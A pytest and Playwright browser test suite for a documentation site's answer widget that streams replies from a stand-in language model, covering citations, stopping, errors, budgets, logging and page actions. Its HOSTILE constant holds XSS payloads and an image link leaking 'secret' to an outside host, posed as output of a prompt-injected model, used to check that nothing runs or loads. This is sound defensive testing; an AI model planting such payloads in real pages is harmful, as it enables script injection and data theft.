"""Test answers and page actions of the widget, with a double of the model, on pages with a strict policy."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Request, expect

from recto.search.query_log import read_query_log
from recto.settings import AnswerOptions
from tests.browser.site import Site
from tests.browser.test_widget import FUNDAMENTALS, QUESTION, Reader, home, published
from tests.browser.webui import PHONE, WIDE
from tests.doubles.chat import ChatDouble, break_off
from tests.doubles.server import status
from tests.running import wait_until

pytestmark = pytest.mark.browser
__all__ = ["home"]

ANSWER = (
    "Nodes talk over **topics** [1]. They can also use services [2], for example with `rclpy` [99].\n\n"
    "```python\nnames[0] = 'talker'\n\nnode.spin(names[0])\n```\n\n- A topic has many readers [1].\n- A service has one."
)
HOSTILE = (
    "I ignore my instructions. <img src=x onerror='window.ran=1'> [click](javascript:window.ran=2) "
    "<script>window.ran=3</script> ![p](https://elsewhere.invalid/p.png?q=secret) [1] [42]"
)


@pytest.fixture(scope="module")
def chat() -> Iterator[ChatDouble]:
    with ChatDouble() as double:
        yield double


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("log")


@pytest.fixture(scope="module")
def options(chat: ChatDouble) -> AnswerOptions:
    return AnswerOptions(chat.base, "a-model", "sk-secret", rate=1000, seconds=20)


@pytest.fixture(scope="module")
def _site(home: Path, log: Path, options: AnswerOptions) -> Iterator[Site]:
    with published(home, log, answer=options) as site:
        yield site


@pytest.fixture
def site(_site: Site, chat: ChatDouble) -> Iterator[Site]:
    before = dict(_site.attributes)
    chat.text, chat.size, chat.pause = ANSWER, 5, 0.0
    chat.left.clear()
    yield _site
    _site.attributes, _site.language = before, "en"


@pytest.fixture
def reader(browser: Browser, site: Site) -> Iterator[Reader]:
    with Reader(browser, site) as reader:
        yield reader


def answer_of(reader: Reader) -> Locator:
    return reader.dialog.locator(".answer")


def ask(reader: Reader, path: str = FUNDAMENTALS, query: str = QUESTION) -> Locator:
    reader.read(path)
    reader.type(query)
    answer_of(reader).get_by_role("button", name="Answer this question").click()
    return answer_of(reader)


def test_an_answer_streams_and_its_citations_open_sections(reader: Reader, chat: ChatDouble) -> None:
    chat.pause = 0.05
    answer = ask(reader)
    expect(answer.get_by_role("button", name="Stop")).to_be_focused()
    expect(answer.locator(".text")).to_contain_text("Nodes talk")
    expect(answer.locator(".text")).to_have_attribute("aria-busy", "true")
    chat.pause = 0.0
    expect(answer.get_by_text("Written by a language model")).to_be_visible()
    expect(answer.locator(".text")).to_have_attribute("aria-busy", "false")
    assert answer.locator("strong").all_inner_texts() == ["Answer", "topics"]
    assert answer.locator("pre").inner_text() == "names[0] = 'talker'\n\nnode.spin(names[0])"
    assert answer.locator(".cite [aria-hidden]").all_inner_texts() == ["1", "2", "1"]
    assert "99" not in answer.inner_text()
    assert answer.locator(".sources li").count() == 2
    cited = answer.get_by_role("link", name=re.compile("^Source 1: ")).first
    target = cited.get_attribute("href")
    assert target
    assert target.startswith(reader.origin)
    cited.click()
    expect(reader.dialog).to_be_hidden()
    assert reader.page.url.partition("#")[0] == target.partition("#")[0]


def test_a_reader_stops_an_answer_or_leaves(reader: Reader, chat: ChatDouble) -> None:
    chat.text, chat.pause = "word " * 400, 0.05
    answer = ask(reader)
    expect(answer.locator(".text")).to_contain_text("word word")
    reader.page.keyboard.press("Enter")  # on the button, which has the focus
    expect(answer.get_by_role("status")).to_have_text("Stopped.")
    assert chat.left.wait(10), "the model is no longer asked"
    expect(answer.locator("strong").first).to_be_focused()
    chat.left.clear()
    reader.input.fill(f"{QUESTION} here")
    reader.settle()
    answer.get_by_role("button", name="Answer this question").click()
    expect(answer.locator(".text")).to_contain_text("word word")
    reader.page.keyboard.press("Escape")
    assert chat.left.wait(10)


def test_earlier_questions_are_sent_until_the_panel_is_closed(reader: Reader, chat: ChatDouble) -> None:
    answer = ask(reader)
    expect(answer.locator(".sources")).to_be_visible()
    reader.input.fill("how do services communicate")
    reader.settle()
    answer.get_by_role("button", name="Answer this question").click()
    expect(answer.locator(".sources")).to_be_visible()
    assert re.search(
        rf"earlier question \w+ ---\n{re.escape(QUESTION)}\n--- earlier answer \w+ ---\nNodes talk",
        chat.prompt[1],
    )
    reader.page.keyboard.press("Escape")
    ask(reader)
    expect(answer.locator(".sources")).to_be_visible()
    assert "earlier" not in chat.prompt[1]


def test_an_earlier_answer_is_not_cut_within_a_character(reader: Reader, chat: ChatDouble) -> None:
    chat.text = "." + "😀" * 1000  # each is two of JavaScript's characters
    answer = ask(reader)
    expect(answer.locator(".after .note").first).to_be_visible()
    reader.input.fill("how do services communicate")
    reader.settle()
    answer.get_by_role("button", name="Answer this question").click()
    expect(answer.locator(".after .note").first).to_be_visible()
    assert f"earlier answer\n.{'😀' * 999}\n" in re.sub(r" [0-9a-f]{16} ---", "", chat.prompt[1])


def test_errors_are_said_and_can_be_tried_again(reader: Reader, chat: ChatDouble) -> None:
    chat.script(status(500), break_off(chat))
    answer = ask(reader)
    for _ in range(2):
        expect(answer.get_by_role("status")).to_have_text("The answer could not be completed.")
        answer.get_by_role("button", name="Try again").click()
    expect(answer.locator(".sources")).to_be_visible()
    reader.wrong = [line for line in reader.wrong if "The model" not in line and "not complete" not in line]


def test_not_covered_names_the_nearest_sections(reader: Reader, chat: ChatDouble) -> None:
    before = len(chat.requests)
    answer = ask(reader, query="which clutch does a 1972 motorcycle have")
    expect(answer.get_by_text("The book does not seem to cover this.")).to_be_visible()
    assert answer.locator(".sources a").count() > 0
    assert len(chat.requests) == before


def test_a_budget_that_is_spent(browser: Browser, home: Path, site: Site, options: AnswerOptions) -> None:
    """A service that gives one answer a day."""
    with published(home, answer=replace(options, daily=1)) as own, Reader(browser, own) as reader:
        answer = ask(reader)
        expect(answer).not_to_contain_text("Reading the book")
        reader.input.fill(f"{QUESTION} with each other")
        reader.settle()
        answer.get_by_role("button", name="Answer this question").click()
        state = answer.get_by_role("status")
        expect(state).to_have_text("There are no more answers today. You can still search.")
        expect(reader.options.first).to_be_visible()


def test_a_hostile_page_and_an_injected_model(reader: Reader, site: Site, chat: ChatDouble) -> None:
    """What a page makes a model write is text: nothing runs, loads or links elsewhere."""
    chat.text = HOSTILE
    site.attributes["data-collection"] = "hostile"
    query = "poisoned links that a careful reader must not follow"
    answer = ask(reader, "/docs/module-1-danger/02-links", query)
    expect(answer.get_by_text("Written by a language model")).to_be_visible()
    text = answer.locator(".text")
    assert "<img src=x onerror='window.ran=1'>" in text.inner_text()
    assert "42" not in text.inner_text()
    assert answer.locator("img, script, iframe, form").count() == 0
    links = answer.locator("a[href]").evaluate_all("links => links.map(({ href }) => href)")
    assert links
    assert all(link.startswith(reader.origin) for link in links)
    assert reader.page.evaluate("window.ran") is None


def test_feedback_is_logged(reader: Reader, log: Path) -> None:
    answer = ask(reader)
    answer.get_by_role("button", name="Not helpful").click()
    expect(answer.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")
    wait_until(lambda: any(entry.get("helpful") is False for entry in read_query_log(log)), 30)


def test_a_query_that_becomes_a_question_is_logged_once(reader: Reader) -> None:
    bodies: list[dict[str, Any]] = []

    def keep(request: Request) -> None:
        if request.method == "POST" and request.url.endswith(("/v1/search", "/v1/answer")):
            bodies.append(request.post_data_json or {})

    reader.page.on("request", keep)
    answer = ask(reader)
    expect(answer.get_by_text("Written by a language model")).to_be_visible()
    reader.page.keyboard.press("Escape")  # closing the dialog logs a query that is not logged yet
    expect(reader.dialog).to_be_hidden()
    assert [body.get("log", True) for body in bodies].count(True) == 1


@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["wide", "phone"])
def test_nothing_is_wider_than_the_dialog(browser: Browser, site: Site, size: tuple[int, int]) -> None:
    with Reader(browser, site, size) as reader:
        answer = ask(reader)
        expect(answer.locator(".sources")).to_be_visible()
        wide = "() => { const b = document.querySelector('recto-widget').shadowRoot.querySelector('.body'); return b.scrollWidth - b.clientWidth }"
        assert reader.page.evaluate(wide) == 0


def test_page_actions(browser: Browser, site: Site) -> None:
    site.attributes |= {
        "data-page-actions": "",
        "data-mcp": "https://search.example/mcp",
        "data-assistants": '{"Helper": "https://helper.invalid/?q={prompt}"}',
    }
    permissions = ["clipboard-read", "clipboard-write"]
    with Reader(browser, site, permissions=permissions) as reader:
        page = reader.read()
        actions = page.locator("recto-page-actions")
        page.evaluate("document.documentElement.dataset.theme = 'dark'")
        expect(actions).to_have_attribute("data-theme", "dark")
        actions.get_by_role("button", name="Copy page").click()
        expect(actions.get_by_role("button", name="Copied")).to_be_visible()
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith("# ")
        assert "```" in copied
        actions.locator("summary").click()
        assert actions.get_by_role("listitem").all_inner_texts() == [
            "View as Markdown", "Open in Helper", "Add to Cursor", "Add to VS Code", "Copy MCP configuration",
        ]  # fmt: skip
        actions.get_by_role("button", name="Copy MCP configuration").click()
        expect(actions.locator("li button").last).to_have_text("Copied")
        assert '"url": "https://search.example/mcp"' in page.evaluate("navigator.clipboard.readText()")
        with page.expect_popup() as popup:
            actions.get_by_role("button", name="View as Markdown").click()
        popup.value.wait_for_url("blob:**")
        assert popup.value.locator("body").inner_text().startswith("# ")
        popup.value.close()
        page.evaluate("window.open = (address) => { window.opened = address }")
        actions.locator("summary").click()
        actions.get_by_role("button", name="Open in Helper").click()
        assert "https://helper.invalid/?q=Read%20" in page.evaluate("window.opened")
        page.evaluate("() => document.querySelector('main').replaceWith(document.createElement('main'))")
        expect(page.locator("recto-page-actions")).to_have_count(1)
        site.language = "de"
        actions = reader.read().locator("recto-page-actions")
        expect(actions.get_by_role("button", name="Seite kopieren")).to_be_visible()
